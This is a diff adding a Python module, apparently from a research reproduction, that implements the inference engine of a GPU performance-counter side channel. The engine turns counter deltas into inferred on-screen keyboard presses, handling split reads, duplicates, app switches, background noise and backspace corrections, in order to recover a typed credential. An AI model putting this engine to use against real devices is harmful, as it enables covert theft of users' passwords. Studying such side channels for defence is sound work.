@@ -1,0 +1,409 @@
+"""The Online Phase inference engine (paper Algorithm 1 + Sections 5.1-5.3).
+
+The engine consumes the stream of nonzero PC deltas produced by the
+sampler and maintains the inferred key-press set E with timestamps M:
+
+1. **Duplication** — a key press inferred within Δt1 = 75 ms of the
+   previous one is a popup-animation duplicate and is suppressed.
+2. **Split** — a delta that classifies as nothing is merged with the
+   previous unconsumed delta; if the combination classifies as a key
+   press, it was a split read and the press is inferred at the earlier
+   timestamp (the greedy step the paper notes can occasionally be wrong).
+3. **System noise** — anything that still classifies as nothing.
+4. **App switches** — burst detection suppresses inference while the
+   user is away from the target app (Section 5.2).
+5. **Corrections** — text-field redraws carry the input length; length
+   drops delete the most recent inferred characters (Section 5.3).
+
+On top of Algorithm 1, the engine applies two recovery heuristics for
+collision cases the greedy algorithm loses (both grounded in what the
+offline phase already knows):
+
+* **pending-dismiss subtraction** — after a key press is inferred, its
+  popup must dismiss within a few hundred ms; if an unexplained change
+  arrives while that dismissal is pending (fast typing can land the
+  dismissal and the *next* press in the same read), subtracting the known
+  dismiss signature often reveals the press underneath;
+* **duplication halving** — a popup-animation duplicate landing in the
+  same read as its press doubles the delta; an unexplained change that
+  classifies as a key press at half magnitude is such a merge.
+
+Every classifier call is timed with a monotonic clock; the recorded
+latencies reproduce the paper's Fig 25 (>95 % of inferences under 0.1 ms).
+"""
+
+from __future__ import annotations
+
+import time
+from dataclasses import dataclass, field
+from typing import List, Optional, Sequence
+
+import numpy as np
+
+from repro.core.appswitch import AppSwitchDetector
+from repro.core.classifier import ClassificationModel
+from repro.core.corrections import CorrectionTracker
+from repro.core import features
+from repro.core.dedup import DEDUP_WINDOW_S, DuplicationFilter
+from repro.kgsl.sampler import PcDelta
+
+#: Maximum gap between two reads for split recombination: a render split
+#: across reads lands in *consecutive* reads, so a little over one
+#: nominal interval is enough.
+SPLIT_MERGE_FACTOR = 2.6
+
+
+@dataclass
+class InferredKey:
+    """One inferred key press (an element of E with its M timestamp)."""
+
+    t: float
+    char: str
+    distance: float
+    deleted: bool = False
+    from_split: bool = False
+
+
+@dataclass
+class EngineStats:
+    """Bookkeeping the evaluation section reports on."""
+
+    deltas_seen: int = 0
+    keys_inferred: int = 0
+    duplicates_suppressed: int = 0
+    splits_recovered: int = 0
+    noise_events: int = 0
+    field_events: int = 0
+    deletions_detected: int = 0
+    suppressed_by_switch: int = 0
+    unattributed_growth: int = 0
+
+
+@dataclass
+class OnlineResult:
+    """Full output of one eavesdropping run."""
+
+    keys: List[InferredKey] = field(default_factory=list)
+    stats: EngineStats = field(default_factory=EngineStats)
+    inference_times_s: List[float] = field(default_factory=list)
+
+    @property
+    def text(self) -> str:
+        """The inferred credential, with detected deletions applied."""
+        return "".join(k.char for k in self.keys if not k.deleted)
+
+    @property
+    def all_inferred(self) -> str:
+        return "".join(k.char for k in self.keys)
+
+    def key_times(self) -> List[float]:
+        return [k.t for k in self.keys if not k.deleted]
+
+
+class OnlineEngine:
+    """Algorithm 1 with the Section 5.2/5.3 extensions."""
+
+    def __init__(
+        self,
+        model: ClassificationModel,
+        interval_s: float = 0.008,
+        dedup_window_s: float = DEDUP_WINDOW_S,
+        detect_switches: bool = True,
+        track_corrections: bool = True,
+        recover_collisions: bool = True,
+    ) -> None:
+        self.model = model
+        self.interval_s = interval_s
+        self.dedup = DuplicationFilter(window_s=dedup_window_s)
+        self.track_corrections = track_corrections
+        self.corrections = CorrectionTracker()
+        self.recover_collisions = recover_collisions
+        self._noise_ring: List = []
+        self._active_model = model
+        self._deflation_u = None
+        self.switch_detector: Optional[AppSwitchDetector] = None
+        if detect_switches:
+            self.switch_detector = AppSwitchDetector(
+                big_threshold=self._switch_threshold(model)
+            )
+
+    @staticmethod
+    def _switch_threshold(model: ClassificationModel) -> float:
+        """Raw-magnitude threshold separating full-screen transitions from
+        typing-scale changes: above every key centroid's total."""
+        key_totals = [
+            float(model.centroid(label).sum()) for label in model.key_labels
+        ]
+        if not key_totals:
+            return 1e7
+        return 2.5 * max(key_totals)
+
+    # ------------------------------------------------------------------
+
+    def process(self, deltas: Sequence[PcDelta]) -> OnlineResult:
+        """Run the engine over a complete delta stream."""
+        result = OnlineResult()
+        prev: Optional[PcDelta] = None
+        prev_consumed = True
+
+        for delta in deltas:
+            if not delta:
+                continue
+            result.stats.deltas_seen += 1
+
+            # Ambient-workload correction (Fig 22b): a background app adds
+            # an increment of unknown magnitude but stable *direction* to
+            # every counter read.  Once that direction is estimated (from
+            # the recurring unexplained deltas), the engine switches to a
+            # deflated model view that projects it out of observations and
+            # centroids alike, cleaning the whole pipeline at once.
+            if self.recover_collisions:
+                self._refresh_deflation()
+
+            t0 = time.perf_counter()
+            classification = self._active_model.classify(delta)
+            result.inference_times_s.append(time.perf_counter() - t0)
+
+            if self.switch_detector is not None:
+                observation = self.switch_detector.observe(
+                    delta, classification, magnitude=self._effective_magnitude(delta)
+                )
+                if observation.suppress:
+                    result.stats.suppressed_by_switch += 1
+                    if classification.label is None:
+                        # suppressed-but-unexplained changes still inform
+                        # the ambient-workload estimate (a login animation
+                        # can otherwise starve it into permanent suppression)
+                        self._note_noise(delta)
+                    prev, prev_consumed = delta, True
+                    continue
+
+            # Split recombination (Algorithm 1 lines 7-10): when the
+            # previous change went unexplained, consider that this change
+            # is the tail of a render split across two reads.  Take the
+            # merged interpretation whenever it explains the data strictly
+            # better than the change alone.
+            merged_cls = None
+            event_t = delta.t
+            if (
+                prev is not None
+                and not prev_consumed
+                and delta.t - prev.t <= self.interval_s * SPLIT_MERGE_FACTOR
+            ):
+                merged = delta.merge(prev)
+                t0 = time.perf_counter()
+                merged_cls = self._active_model.classify(merged)
+                result.inference_times_s.append(time.perf_counter() - t0)
+            if merged_cls is not None and merged_cls.label is not None and (
+                classification.label is None
+                or merged_cls.distance < classification.distance
+            ):
+                classification = merged_cls
+                event_t = prev.t
+                result.stats.splits_recovered += 1
+
+            if classification.label is None and self.recover_collisions:
+                recovered = self._recover_collision(result, delta)
+                if recovered is not None:
+                    classification = recovered
+                elif merged_cls is not None and merged_cls.label is None:
+                    # a composite event (press + dismiss/field) itself split
+                    # across two reads: recombine, then decompose
+                    t0 = time.perf_counter()
+                    merged_composite = self._active_model.classify_composite(
+                        features.vectorize(delta.merge(prev)),
+                        field_lengths=self._plausible_lengths(),
+                    )
+                    result.inference_times_s.append(time.perf_counter() - t0)
+                    if merged_composite.is_key:
+                        classification = merged_composite
+                        event_t = prev.t
+                        result.stats.splits_recovered += 1
+
+            if classification.is_key:
+                self._infer_key(
+                    result, event_t, classification, from_split=event_t != delta.t
+                )
+                prev, prev_consumed = delta, True
+                continue
+
+            if classification.is_field:
+                self._field_event(result, event_t, classification.field_length)
+                # field redraws stay available for split recombination: a
+                # partially-read blink can masquerade as a shorter field,
+                # and its tail may arrive merged with a key press
+                prev, prev_consumed = delta, False
+                continue
+
+            # Reject classes and unexplained noise both leave the delta
+            # available for split recombination with the *next* change: the
+            # first half of a split key press often masquerades as a
+            # dismiss-like reject before its tail arrives.
+            result.stats.noise_events += 1
+            if classification.label is None:
+                self._note_noise(delta)
+            prev, prev_consumed = delta, False
+
+        if self.switch_detector is not None and deltas:
+            self.switch_detector.flush(deltas[-1].t + 1.0)
+        return result
+
+    # ------------------------------------------------------------------
+
+    #: Noise deltas kept for the ambient-baseline estimate.
+    AMBIENT_WINDOW = 24
+    #: Minimum noise observations before the ambient estimate is trusted.
+    AMBIENT_MIN_SAMPLES = 6
+
+    def _recover_collision(self, result: OnlineResult, delta: PcDelta):
+        """Try the duplication-halving, dismiss/field-subtraction and
+        ambient-baseline-subtraction heuristics.
+
+        Only key interpretations are accepted — halving or subtracting a
+        field redraw would fabricate length evidence.
+
+        The ambient baseline targets concurrent GPU workloads (Fig 22b): a
+        background 3D app renders a near-constant increment every frame,
+        which the engine estimates from the recurring unexplained deltas
+        and subtracts before classification.
+        """
+        t0 = time.perf_counter()
+        half_cls = self._active_model.classify(delta.scaled(0.5))
+        result.inference_times_s.append(time.perf_counter() - t0)
+        if half_cls.is_key:
+            return half_cls
+
+        vec = features.vectorize(delta)
+        t0 = time.perf_counter()
+        composite_cls = self._active_model.classify_composite(
+            vec, field_lengths=self._plausible_lengths()
+        )
+        result.inference_times_s.append(time.perf_counter() - t0)
+        if composite_cls.is_key:
+            return composite_cls
+
+        return None
+
+    def _effective_magnitude(self, delta: PcDelta) -> float:
+        """Raw magnitude with the ambient direction's share removed, so a
+        steady background or animation never masquerades as an app-switch
+        burst."""
+        if self._deflation_u is None:
+            return float(delta.total)
+        vec = features.vectorize(delta)
+        scaled = vec / self.model.scale
+        cleaned = (scaled - float(scaled @ self._deflation_u) * self._deflation_u) * self.model.scale
+        return float(np.clip(cleaned, 0.0, None).sum())
+
+    def _refresh_deflation(self) -> None:
+        """Adopt (or update) the deflated model view when a stable
+        ambient direction is present."""
+        direction = self._ambient_direction()
+        if direction is None:
+            return
+        _, scaled_dir = direction
+        if self._deflation_u is not None and float(scaled_dir @ self._deflation_u) > 0.999:
+            return  # direction unchanged
+        self._deflation_u = scaled_dir
+        self._active_model = self.model.with_deflation(scaled_dir)
+        if self.switch_detector is not None:
+            # deflated observations make background deltas small again, so
+            # the raw-magnitude burst threshold remains valid
+            pass
+
+    def _ambient_direction(self):
+        """Unit direction (raw and scaled space) of the recurring
+        unexplained deltas, if they point consistently enough to be a
+        periodic background workload."""
+        if len(self._noise_ring) < self.AMBIENT_MIN_SAMPLES:
+            return None
+        matrix = np.vstack(self._noise_ring)
+        norms = np.linalg.norm(matrix, axis=1)
+        keep = norms > 0
+        if keep.sum() < self.AMBIENT_MIN_SAMPLES:
+            return None
+        if len(self._noise_ring) < self.AMBIENT_WINDOW:
+            return None
+        matrix = np.vstack(self._noise_ring)
+        norms = np.linalg.norm(matrix, axis=1)
+        keep = norms > 0
+        if keep.sum() < self.AMBIENT_MIN_SAMPLES:
+            return None
+        units = matrix[keep] / norms[keep][:, None]
+        # robust direction: the ring mixes pure background deltas with
+        # contaminated event windows; fit the mean direction, keep the
+        # inliers, refit, and demand the inlier cluster be large and tight
+        mean_dir = units.mean(axis=0)
+        mean_norm = float(np.linalg.norm(mean_dir))
+        if mean_norm <= 0:
+            return None
+        mean_dir = mean_dir / mean_norm
+        cosines = units @ mean_dir
+        inliers = cosines > 0.9
+        if inliers.sum() < max(self.AMBIENT_MIN_SAMPLES, 0.5 * len(units)):
+            return None
+        refined = units[inliers].mean(axis=0)
+        refined_norm = float(np.linalg.norm(refined))
+        if refined_norm < 0.98:
+            return None
+        raw_dir = refined / refined_norm
+        scaled = matrix[keep][inliers] / self.model.scale[None, :]
+        scaled_units = scaled / np.linalg.norm(scaled, axis=1)[:, None]
+        scaled_dir = scaled_units.mean(axis=0)
+        scaled_dir = scaled_dir / np.linalg.norm(scaled_dir)
+        return raw_dir, scaled_dir
+
+    def _note_noise(self, delta: PcDelta) -> None:
+        self._noise_ring.append(features.vectorize(delta))
+        if len(self._noise_ring) > self.AMBIENT_WINDOW:
+            self._noise_ring.pop(0)
+
+    def _plausible_lengths(self):
+        """Field lengths the composite search may subtract: near the
+        correction tracker's current estimate, or unrestricted before any
+        field event has been seen."""
+        if not self.track_corrections:
+            return None
+        bounds = self.corrections.length_bounds()
+        if bounds is None:
+            return None
+        lo, hi = bounds
+        return tuple(range(max(0, lo - 1), hi + 3))
+
+    def _infer_key(
+        self, result: OnlineResult, t: float, classification, from_split: bool
+    ) -> None:
+        if not self.dedup.admit(t):
+            result.stats.duplicates_suppressed += 1
+            return
+        char = classification.key_char
+        assert char is not None
+        result.keys.append(
+            InferredKey(
+                t=t, char=char, distance=classification.distance, from_split=from_split
+            )
+        )
+        result.stats.keys_inferred += 1
+
+    def _field_event(self, result: OnlineResult, t: float, length: Optional[int]) -> None:
+        result.stats.field_events += 1
+        if not self.track_corrections or length is None:
+            return
+        emitted = self.corrections.observe(
+            t, length, keys_inferred_total=result.stats.keys_inferred
+        )
+        result.stats.unattributed_growth = self.corrections.unattributed_growth
+        for event in emitted:
+            result.stats.deletions_detected += 1
+            # delete the inferred key that actually preceded the backspace:
+            # the most recent not-yet-deleted key inferred before the
+            # decrease was first observed
+            candidates = [
+                k for k in result.keys if not k.deleted and k.t < event.t
+            ]
+            target = candidates[-1] if candidates else None
+            if target is None:
+                remaining = [k for k in result.keys if not k.deleted]
+                target = remaining[-1] if remaining else None
+            if target is not None:
+                target.deleted = True
